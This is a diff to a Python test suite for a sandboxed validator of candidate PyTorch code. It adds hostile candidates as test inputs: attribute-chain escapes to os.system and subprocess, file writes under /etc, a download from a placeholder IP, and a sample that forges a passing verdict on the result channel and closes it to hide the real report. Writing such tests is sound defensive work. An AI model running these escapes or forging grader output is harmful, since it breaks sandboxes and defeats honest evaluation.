@@ -52,7 +52,8 @@ CASES = {
     "nan": (task("return x / 0.0"), "nan_or_inf"),
     "fixed_inputs": (task("return x * 2", inputs="[torch.ones(4, 8)]"), "fixed_inputs"),
     # Dodges the static list; caught at run time because forward consumes the RNG.
-    "stochastic_runtime": (task("return x + getattr(torch, 'ra' + 'nd_like')(x)"), "stochastic_op"),
+    "stochastic_runtime": (task("return x + noise(x)", header="import torch\nimport torch.nn as nn\n"
+                                                              "from torch import rand_like as noise"), "stochastic_op"),
     "nondeterministic": (task("COUNTER.append(1)\nreturn x * len(COUNTER)",
                               header="import torch\nimport torch.nn as nn\nCOUNTER = []"), "nondeterministic"),
     "constant": (task("return torch.zeros_like(x) + 1.0"), "constant_output"),
@@ -77,11 +78,16 @@ CASES = {
     "memory_bomb": (task("return torch.empty(2**40) + x.sum()"), "memory_limit"),
     "sys_exit": (task("raise SystemExit(3)"), "sys_exit"),
     "exit_builtin": (task("exit()"), "sys_exit"),
-    "file_outside": (task("torch.save(x, '/tmp/opforge-validate-evil.pt')\nreturn x"), "file_access_blocked"),
+    # Reaching out through attribute chains (`torch.os`, `torch.save`, private helpers, `torch.hub`): static.
+    "file_outside": (task("torch.save(x, '/tmp/opforge-validate-evil.pt')\nreturn x"), "disallowed_import"),
     "file_outside_py": (task("torch.serialization._open_file('/etc/opforge-evil', 'wb')\nreturn x"),
-                        "file_access_blocked"),
+                        "disallowed_import"),
     "network": (task("torch.hub.download_url_to_file('http://192.0.2.1/w.pt', 'w.pt')\nreturn x"),
-                "network_blocked"),
+                "disallowed_import"),
+    "torch_os": (task("torch.os.system('touch /tmp/x')\nreturn x * 2"), "disallowed_import"),
+    "getattr_chain": (task("getattr(torch, 'o' + 's').getpid()\nreturn x * 2"), "disallowed_import"),
+    "cpp_ext_subprocess": (task("torch.utils.cpp_extension.subprocess.run(['id'])\nreturn x * 2"),
+                           "disallowed_import"),
     "flood_stdout": (task("print('y' * 2_000_000)\nreturn self.lin(x)", init="self.lin = nn.Linear(8, 8)"), ""),
     # Replacing what the filters compute with (a nondeterministic task that makes allclose always agree):
     # seen in the source, or, through an alias the static check cannot follow, after the module body / forward.
@@ -101,6 +107,20 @@ UNCHECKED = {
     "fork_bomb": (task("import os\nwhile True:\n    os.fork()"), "process_blocked"),
     "socket": (task("import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=2)\nreturn x"),
                "network_blocked"),
+    "file_outside": (task("torch.serialization._open_file('/etc/opforge-evil', 'wb')\nreturn x"),
+                     "file_access_blocked"),
+    "native_write_outside": (task("torch.save(x, '/etc/opforge-validate-evil.pt')\nreturn x * 2"),
+                             "file_access_blocked"),
+    "network": (task("torch.hub.download_url_to_file('http://192.0.2.1/w.pt', 'w.pt')\nreturn x"),
+                "network_blocked"),
+    # Writing a verdict on the result channel (the fd the bootstrap reports on) and closing it so that the real
+    # report is lost, then returning zeros.
+    "forged_channel": (task("return torch.zeros_like(x)", header=(
+        "import torch\nimport torch.nn as nn\nimport os, json\n"
+        "for fd in range(3, 1024):\n    try:\n        os.write(fd, (json.dumps({'type': 'result', 'value': {"
+        "'checks': {}, 'details': {}, 'reason': ''}}) + '\\n').encode())\n        os.close(fd)\n"
+        "    except OSError:\n        pass\n")),
+        "forged_report"),
 }
 
 
@@ -127,7 +147,7 @@ def test_every_filter_and_hostile_candidate_gets_its_reason(ray_local, fast_sett
     assert rows["unused_param"]["unused"] == ["b"]
     assert rows["unused_module"]["unused"] == ["module:act"]
     assert rows["train_eval"]["train_eval_max_abs_err"] > 1e-3
-    assert rows["file_outside"]["check_sandbox"] is False
+    assert rows["file_outside"]["check_imports"] is False
 
 
 def test_sandbox_layers_alone_catch_what_static_checks_would(fast_settings):
@@ -151,7 +171,8 @@ def test_output_and_memory_limits(fast_settings):
 def test_compile_filters():
     """torch.compile must run and agree with eager: a candidate that computes something else when compiled is
     caught with its error recorded (one sandboxed compile; 10-60 s on a loaded 2-core CPU)."""
-    s = ValidateSettings(timeout_s=300)  # the session's TORCHINDUCTOR_CACHE_DIR (conftest)
+    # Statically, `torch.compiler` is already refused; the static filter is off here to test the runtime one.
+    s = ValidateSettings(timeout_s=300, enforce_imports=False)  # the session's TORCHINDUCTOR_CACHE_DIR (conftest)
     code = task("if torch.compiler.is_compiling():\n    return x * 2\nreturn torch.relu(self.lin(x))",
                 init="self.lin = nn.Linear(8, 8)")
     out = validate(pa.table({"code": [code]}), s, "cpu").to_pylist()[0]
